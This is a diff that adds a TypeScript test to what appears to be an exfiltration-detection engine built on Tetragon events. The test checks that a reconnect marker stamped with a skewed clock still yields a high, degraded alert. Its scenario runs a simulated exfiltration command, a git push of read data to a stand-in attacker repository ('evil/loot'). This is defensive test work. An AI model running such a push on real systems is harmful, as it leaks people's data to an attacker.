@@ -67,3 +67,35 @@ describe('a node behind the wall clock (live)', () => {
     }
   });
 });
+
+describe('a node behind the wall clock whose source reconnects (live)', () => {
+  // Found by review: the source's `disconnected` marker is stamped with the daemon's clock, not the sensor's
+  // (the export file tailed from its start went missing a moment as Tetragon rotated it). It moved the
+  // node's clock to the wall clock, 35 minutes past its events: its reads expired at the next pass and the
+  // push was low, and the loss, 35 minutes after them on the node's time, marked none of its alerts.
+  it("takes the marker on the node's time: the reads before it still count, and the alert is degraded", () => {
+    const lagMs = 35 * 60_000;
+    const s = new Scenario();
+    const c = s.container();
+    const sh = s.init(c);
+    s.readMany(sh, '/srv/export', 80, MiB, 100);
+    s.wait(30_000);
+    const downMs = s.now;
+    s.wait(5_000);
+    // Stamped with the wall clock when the source came back: the node's time + its lag.
+    s.events.push({
+      kind: 'gap',
+      time: new Date(s.now + lagMs).toISOString(),
+      timeMs: s.now + lagMs,
+      source: 'tetragon',
+      node: 'node-a',
+      gap: { dropped: 0, reason: 'disconnected', fromMs: downMs + lagMs },
+    });
+    s.wait(90_000);
+    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+    const arrived = (e: NormalizedEvent) => (e.kind === 'gap' ? e.timeMs - lagMs : e.timeMs);
+    const alerts = live(s.events, lagMs, arrived);
+    expect(brief(alerts)).toEqual(HIGH);
+    expect(alerts[0]!.degraded).toBe(true);
+  });
+});
